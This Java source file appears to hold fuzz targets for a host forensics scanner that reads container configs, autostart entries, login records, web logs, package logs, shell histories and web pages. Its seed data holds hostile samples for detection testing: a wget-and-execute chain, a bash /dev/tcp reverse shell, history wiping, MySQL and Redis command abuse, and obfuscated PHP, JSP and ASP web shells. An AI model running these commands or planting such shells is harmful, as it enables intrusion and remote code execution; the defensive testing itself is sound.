package davy.range.fuzz;

import static davy.range.fuzz.Target.check;
import static davy.range.fuzz.Target.same;

import davy.agent.check.account.Typed;
import davy.agent.check.file.WebPages;
import davy.core.account.Accounts;
import davy.core.account.History;
import davy.core.compression.ByteReader;
import davy.core.container.Containers;
import davy.core.file.ByteSource;
import davy.core.log.HostZone;
import davy.core.log.LogPass;
import davy.core.log.LogSummary;
import davy.core.log.LogTally;
import davy.core.login.LoginDatabase;
import davy.core.sqlite.SqliteFile;
import davy.core.startup.DesktopEntries;
import davy.core.startup.Launch;
import davy.core.text.RawText;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

/// Files that people keep in their homes, upload, or have services write.
@SuppressWarnings("StringConcatToTextBlock") // seeds are short
final class UserTargets {
    private static final String DOCKER = "/home/ann/.local/share/docker/";
    private static final String PODMAN = "/home/ann/.local/share/containers/storage/";
    private static final int LONGEST_PAGE = 16 << 10;
    private static final byte[] PASSWD =
            "root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/sh\n"
                    .getBytes(StandardCharsets.US_ASCII);

    static final List<Target> ALL =
            List.of(
                    Target.of(
                            "containers",
                            "of docker and podman: one of each file, 4,097 arguments at most, the"
                                    + " same twice",
                            UserTargets::containers,
                            Pieces.joined(
                                    "{\"Path\":\"/x\",\"Args\":[\"-o\",\"a:1\"],\"Name\":\"/n\",\"Created\":"
                                            + "\"2026-01-02T03:04:05.678Z\",\"State\":{\"Running\":true,"
                                            + "\"Pid\":7},\"Config\":{\"Env\":[\"A=b\"]},\"MountPoints\":"
                                            + "{\"/h\":{\"Source\":\"/\",\"RW\":true}}}",
                                    "{\"Privileged\":true,\"Binds\":[\"/:/h:rw\"],\"CapAdd\":[\"ALL\"],"
                                            + "\"SecurityOpt\":[\"seccomp=unconfined\"]}",
                                    "{\"Repositories\":{\"a\":{\"a:1\":\"sha256:ab\"}}}",
                                    "{\"config\":{\"Cmd\":[\"/x\"]},\"history\":[{\"created_by\":\"c\"}],"
                                            + "\"rootfs\":{\"diff_ids\":[\"sha256:ab\",\"sha256:cd\"]}}",
                                    "[{\"id\":\"c1\",\"layer\":\"l\",\"metadata\":\"{\\\"name\\\":\\\"n\\\"}\","
                                            + "\"names\":[\"localhost/n\"]}]",
                                    "{\"process\":{\"args\":[\"/x\"],\"env\":[\"A=b\"]},\"mounts\":[{"
                                            + "\"type\":\"bind\",\"source\":\"/\",\"destination\":\"/h\"}],"
                                            + "\"linux\":{\"namespaces\":[{\"type\":\"pid\"}]}}")),
                    Target.of(
                            "podman-bolt",
                            "one container, of which its list tells; the same twice",
                            UserTargets::bolt,
                            List.of(Seeds.bolt())),
                    Target.of(
                            "desktop-entries",
                            "each bears a line of its file; no more than lines",
                            UserTargets::desktop,
                            Pieces.joined(
                                    "[Desktop Entry]\nType=Application\nExec=/bin/a %U\nHidden=false\n",
                                    "[D-BUS Service]\nName=a.b\nExec=/bin/c d\nUser=ann\n")),
                    Target.of(
                            "host-zone",
                            "a zone whose hours are known, the same twice",
                            UserTargets::zone,
                            Pieces.joined("\n", "TZif2\0\0\n<+08>-8\n", "ZONE=\"Asia/Shanghai\"\n"),
                            Pieces.joined("Etc/UTC\n", "TZif2\nCST5:30\n", "")),
                    Target.of(
                            "login-database",
                            "logins of the years 1970 to 9999, the same twice",
                            UserTargets::logins,
                            List.of(Seeds.resource("wtmp.db"))),
                    Target.of(
                            "script-posts",
                            "no more requests than lines; a path of 500 characters at most",
                            UserTargets::posts,
                            "198.51.100.1 - a [02/Jan/2026:03:04:05 +0800] \"POST /up/x.php?a=b"
                                    + " HTTP/1.1\" 200 5 \"-\" \"curl/8 \\\"q\\\"\"\n"
                                    + "w.example:80 ::1 - - [02/Jan/2026:03:04:06 +0000] \"PUT /y.jsp;z"
                                    + " HTTP/1.1\" 201 0\n",
                            "198.51.100.1 - b [x [02/Jan/2026:03:04:05 +0800] \"POST /x.php HTTP/1.1\""
                                    + " 200 5 \"-\" \"-\"\n"),
                    Target.of(
                            "package-log",
                            "no more changes than lines",
                            UserTargets::packages,
                            Pieces.joined(
                                    "2026-01-02 03:04:05 install curl:amd64 <none> 7.88.1-10\n"
                                            + "2026-01-02 03:04:06 remove nano:amd64 7.2-1 <none>\n",
                                    "Start-Date: 2026-01-02  03:04:05\nCommandline: apt-get install"
                                            + " curl\nEnd-Date: 2026-01-02  03:04:06\n",
                                    "2026-01-02T03:04:05+0800 SUBDEBUG Installed:"
                                            + " curl-7.29.0-59.el7.x86_64\n",
                                    "Jan 02 03:04:05 Installed: nano-2.3.1-10.el7.x86_64\n")),
                    Target.of(
                            "typed-commands",
                            "of a shell, of SQL and of Redis: in the order typed, each a command of"
                                    + " its history, the same twice",
                            UserTargets::typed,
                            "wget -q http://198.51.100.7/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x &\n"
                                    + "history -c\n",
                            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nsudo cat /tmp/xmrig\n",
                            "SELECT sys_exec('curl http://198.51.100.7/x | sh');\n",
                            "CONFIG SET dir /var/spool/cron\nconfig set dbfilename root\n"),
                    Target.of(
                            "web-pages",
                            "as PHP, JSP and ASP, 16 KiB of each: the same twice",
                            UserTargets::pages,
                            "<?php $a=str_replace('x','','sysxtem'); @$a($_POST['c']); function f($b)"
                                    + "{ return base64_decode($b); } eval(f($_REQUEST[\"d\"])); ?>",
                            "<?php foreach ($_GET as $k => $v) { $$k = $v; } ${'a'.'b'}(<<<X\n$v\nX\n);"
                                    + " /* c */ include chr(47).'x'; // d\n",
                            "<%@ page import=\"java.io.*\"%><% String c = request.getParameter(\"c\");"
                                    + " \\u0052untime.getRuntime().exec(c); %>",
                            "<%eval request(\"a\")%><% Execute(Request(\"b\")) ' c\n%>"));

    private UserTargets() {}

    private static long containers(byte[] bytes) {
        var pieces = Pieces.of(bytes, 6);
        var host =
                new BytesHost()
                        .with(DOCKER + "containers/c1/config.v2.json", pieces.get(0))
                        .with(DOCKER + "containers/c1/hostconfig.json", pieces.get(1))
                        .with(DOCKER + "image/overlay2/repositories.json", pieces.get(2))
                        .with(DOCKER + "image/overlay2/imagedb/content/sha256/ab", pieces.get(3))
                        .with(PODMAN + "overlay-containers/containers.json", pieces.get(4))
                        .with(PODMAN + "overlay-containers/c1/userdata/config.json", pieces.get(5));
        var first = Containers.read(host, List.of());
        same(found(first), () -> found(Containers.read(host, List.of())));
        check(first.images().size() <= 1, "how many images", first.images().size());
        long size = 0;
        for (var container : first.containers()) {
            check(container.arguments().size() <= 4097, "how many arguments");
            check(!container.id().isEmpty(), "no name");
            size += 1 + container.arguments().size() + container.environment().size();
            size += container.mounts().size() + container.layers().size();
        }
        return size;
    }

    private static List<?> found(Containers containers) {
        return List.of(containers.containers(), containers.images());
    }

    private static long bolt(byte[] bytes) {
        byte[] list = "[{\"id\":\"c1\"}]".getBytes(StandardCharsets.US_ASCII);
        var host =
                new BytesHost()
                        .with(PODMAN + "overlay-containers/containers.json", list)
                        .with(PODMAN + "libpod/bolt_state.db", bytes);
        var found = Containers.read(host, List.of()).containers();
        check(found.size() == 1 && found.getFirst().id().equals("c1"), "which containers");
        same(found, () -> Containers.read(host, List.of()).containers());
        check(host.unseen().size() <= 4, "how much is told as unseen", host.unseen().size());
        return found.getFirst().arguments().size();
    }

    private static long desktop(byte[] bytes) {
        var pieces = Pieces.of(bytes, 2);
        var host =
                new BytesHost()
                        .with("/etc/passwd", PASSWD)
                        .with("/home/ann/.config/autostart/a.desktop", pieces.get(0))
                        .with("/home/ann/.local/share/dbus-1/services/b.service", pieces.get(1));
        var found = new ArrayList<Launch>();
        DesktopEntries.autostart(host, found::add);
        DesktopEntries.busServices(host, found::add);
        found.forEach(launch -> check(launch.line() >= 1, "no line"));
        check(found.size() <= lines(bytes) + 1, "how many", found.size());
        return found.size();
    }

    private static long zone(byte[] bytes) {
        var pieces = Pieces.of(bytes, 3);
        var host =
                new BytesHost()
                        .with("/etc/timezone", pieces.get(0))
                        .with("/etc/localtime", pieces.get(1))
                        .with("/etc/sysconfig/clock", pieces.get(2));
        var zone = HostZone.of(host);
        same(zone, () -> HostZone.of(host));
        if (zone != null) {
            var offset = zone.getRules().getOffset(Instant.ofEpochSecond(1_770_000_000));
            check(Math.abs(offset.getTotalSeconds()) <= 18 * 3600, "which hours", offset);
        }
        return zone == null ? 0 : 1;
    }

    private static long logins(byte[] bytes) {
        var first = entries(bytes);
        same(first, () -> entries(bytes));
        long last = Instant.parse("9999-12-31T23:59:59Z").getEpochSecond();
        for (var entry : first) {
            long second = entry.time().getEpochSecond();
            check(second >= 0 && second <= last, "when", entry.time());
        }
        return first.size();
    }

    private static List<LoginDatabase.Entry> entries(byte[] bytes) {
        var file = SqliteFile.open(ByteSource.of(bytes), bytes.length, null);
        var database = file == null ? null : LoginDatabase.of(file);
        var entries = new ArrayList<LoginDatabase.Entry>();
        if (database != null) {
            var _ = database.read(entries::add);
        }
        return entries;
    }

    private static LogSummary summary(String path, byte[] bytes) {
        var tally = new LogTally();
        var pass = new LogPass(tally, ZoneOffset.UTC, "h", Map.of());
        var modified = Instant.ofEpochSecond(1_770_000_000);
        var reader = ByteReader.of(bytes);
        check(
                pass.read(
                        new LogPass.Input(path, reader, null, bytes.length, modified, null, false)),
                "not taken for a log");
        return tally.summary();
    }

    private static long posts(byte[] bytes) {
        var posts = summary("/var/log/nginx/access.log", bytes).posts();
        long count = 0;
        for (var post : posts) {
            check(post.target().length() <= 500, "a path that is too long");
            check(!post.addresses().isEmpty(), "of nobody");
            count += post.count();
        }
        check(count <= lines(bytes) + 1, "how many requests", count);
        return posts.size();
    }

    private static long packages(byte[] bytes) {
        var pieces = Pieces.of(bytes, 4);
        var names = List.of("dpkg.log", "apt/history.log", "dnf.rpm.log", "yum.log");
        long count = 0;
        for (int i = 0; i < names.size(); i++) {
            count += summary("/var/log/" + names.get(i), pieces.get(i)).packages().size();
        }
        check(count <= lines(bytes) + 4, "how many changes", count);
        return count;
    }

    private static long typed(byte[] bytes) {
        var commands = RawText.decode(bytes).split("[\n\r]");
        var entries = new ArrayList<History.Entry>();
        for (int i = 0; i < commands.length; i++) {
            entries.add(new History.Entry(i + 1, commands[i], null));
        }
        var user = Accounts.read(new BytesHost().with("/etc/passwd", PASSWD)).users().getFirst();
        long count = 0;
        for (String kind : List.of("bash", "mysql", "redis")) {
            var history = new History(user, "/root/.history", kind, entries, 0, false);
            var sightings = new Typed(history).sightings();
            int last = 0;
            for (var sighting : sightings) {
                int line = sighting.entry().line();
                check(line >= last, "not in order", last, line);
                check(sighting.shown().equals(commands[line - 1]), "no command of the history");
                last = line;
            }
            same(sightings, () -> new Typed(history).sightings());
            count += sightings.size();
        }
        return count;
    }

    /// Only so much: what a page may cost is bounded by steps, which a long one of nothing but open
    /// brackets and assignments takes all.
    private static long pages(byte[] bytes) {
        byte[] page = Arrays.copyOf(bytes, Math.min(bytes.length, LONGEST_PAGE));
        var host = new BytesHost();
        var extensions = List.of("php", "jsp", "asp");
        extensions.forEach(extension -> host.with("/srv/x." + extension, page));
        var pages = WebPages.of(host);
        for (String extension : extensions) {
            var level = pages.judge("/srv/x." + extension);
            same(level, () -> pages.judge("/srv/x." + extension));
        }
        return 0;
    }

    /// Unit files and their like end lines at NUL too.
    private static long lines(byte[] bytes) {
        long lines = 0;
        for (byte b : bytes) {
            lines += b == '\n' || b == '\r' || b == 0 ? 1 : 0;
        }
        return lines;
    }
}
